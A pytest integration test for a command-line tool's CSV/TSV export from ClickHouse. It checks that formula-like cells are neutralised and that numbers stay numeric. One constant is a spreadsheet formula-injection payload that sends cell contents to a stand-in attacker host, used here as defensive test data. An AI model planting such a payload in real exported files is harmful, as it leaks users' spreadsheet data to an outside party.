"""``blo query --format csv|tsv`` as a subprocess against the session's real ClickHouse
server (18.16, clickhouse-driver's values): stored text a spreadsheet would run as a formula
comes out as text, numbers (negative ones too) as numbers; ``--no-formula-guard`` writes
what is stored."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from blo.localservices.clickhouse_server import ClickHouseServer
from sinks.clickhouse import ServerDatabase

pytestmark = [pytest.mark.integration, pytest.mark.timeout(300)]

REPO = Path(__file__).resolve().parents[3]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_and_tsv_write_formulas_as_text_and_numbers_as_numbers(
        clickhouse_server: ClickHouseServer,
        make_clickhouse_db: Callable[..., ServerDatabase], tmp_path: Path) -> None:
    db = make_clickhouse_db()
    db.command(f"CREATE TABLE {db.database}.f (n UInt64, label String, x Float64, k Int64) "
               "ENGINE = MergeTree ORDER BY n")
    db.insert("f", ("n", "label", "x", "k"),
              [(1, HYPERLINK, -3.5, -7), (2, "@SUM(A1:A9)", 0.5, 0), (3, "-3.5", -0.25, -1)])
    env = {k: v for k, v in os.environ.items() if not k.startswith("BLO_")}
    env.update(BLO_CLICKHOUSE_URL=clickhouse_server.url(db.database),
               BLO_DATA_DIR=str(tmp_path), PYTHONPATH=str(REPO))

    def query(*args: str) -> str:
        res = subprocess.run([sys.executable, "-m", "blo", "query", *args,
                              f"SELECT label, x, k FROM {db.database}.f ORDER BY n"],
                             env=env, cwd=tmp_path, check=False, capture_output=True,
                             text=True, timeout=120)
        assert res.returncode == 0, res.stderr
        return res.stdout

    assert list(csv.reader(io.StringIO(query("--format", "csv")))) == [
        ["label", "x", "k"], ["'" + HYPERLINK, "-3.5", "-7"], ["'@SUM(A1:A9)", "0.5", "0"],
        ["-3.5", "-0.25", "-1"]]
    assert query("--format", "tsv").splitlines() == [
        f"'{HYPERLINK}\t-3.5\t-7", "'@SUM(A1:A9)\t0.5\t0", "-3.5\t-0.25\t-1"]
    raw = query("--format", "csv", "--no-formula-guard")
    assert [r[0] for r in csv.reader(io.StringIO(raw))] == [
        "label", HYPERLINK, "@SUM(A1:A9)", "-3.5"]
